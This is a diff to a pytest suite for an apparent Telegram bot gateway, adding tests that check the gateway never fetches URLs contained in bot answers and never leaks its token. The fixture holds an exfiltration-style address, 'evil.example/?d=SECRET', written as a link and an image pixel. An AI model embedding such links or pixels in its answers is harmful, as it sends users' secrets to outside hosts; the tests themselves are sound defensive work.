@@ -20,10 +20,13 @@ STORY = "\n\n".join(
 )
 CODE = "```python\n" + "\n".join(f"print('{n} <&> ' * 3)" for n in range(400)) + "\n```"
 LIST = "# Head\n\n- *one*\n- [two](https://a.org/?x=1&y=2)\n\n> said"
+URL = "https://evil.example/?d=SECRET"
+LEAK = f"See {URL} and [this]({URL}) ![pixel]({URL})\n\n" + "more words " * 700
 SCRIPT = {
     "steps": [
         {"when": "^story", "text": STORY, "repeat": True},
         {"when": "^code", "text": CODE, "repeat": True},
+        {"when": "^leak", "text": LEAK, "repeat": True},
         {"when": "^list", "text": LIST, "repeat": True},
         {"when": "^ask", "tools": [{"name": "clarify", "arguments": {
             "question": "Which one?", "choices": ["Red & blue", "G" * 80]}}], "repeat": True},
@@ -54,6 +57,7 @@ def gateways(tmp_path_factory: pytest.TempPathFactory, api: BotApi) -> Iterator[
     gateway = made.start()
     yield made
     assert end(gateway) == 0
+    assert api.fetched == []  # in no edit of a running answer either
     assert api.token.partition(":")[2] not in made.said
     made.close()
 
@@ -110,6 +114,19 @@ def test_markdown_becomes_telegrams_html(api: BotApi, chat: int) -> None:
     assert {kind for kind, _, _ in shown.entities} == {"bold", "italic", "text_link", "blockquote"}
     assert "two" in shown.text
     assert "[two]" not in shown.text
+
+
+@pytest.mark.parametrize("is_refused", [False, True])
+def test_an_address_in_an_answer_is_not_asked_for(api: BotApi, chat: int, is_refused: bool) -> None:
+    refuse: Any = api.refuse_markup
+    if is_refused:  # then it goes as plain text
+        refuse.add(chat)
+    api.say(chat, "leak")
+    shown = api.find(URL, chat)
+    api.wait(lambda: len(api.texts(chat)) > 1)
+    assert api.fetched == []
+    assert {one.kind for one in api.messages(chat)} == {"text"}
+    assert is_refused or [one[0] for one in shown.entities].count("text_link") == 2
 
 
 @pytest.mark.parametrize("what", ["story", "code"])
